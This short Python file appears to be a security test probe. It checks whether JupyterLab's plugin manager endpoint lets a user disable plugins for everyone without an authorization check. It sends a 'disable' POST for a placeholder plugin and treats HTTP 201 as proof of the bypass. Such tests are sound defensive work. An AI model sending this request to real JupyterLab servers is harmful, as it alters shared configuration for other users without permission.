"""JupyterLab's plugin manager: turns off, for everybody, what a page is made of. No Authorizer is asked."""

from __future__ import annotations

from pathlib import Path

from attack_house import Attacker

CAUSES = {"closed"}


def strike(person: Attacker, mark: Path) -> bool:
    body = {"cmd": "disable", "plugin_name": "@jupyterlab/no-such-plugin:plugin"}
    status, _ = person.request("POST", "/lab/api/plugins", body)
    return status == 201
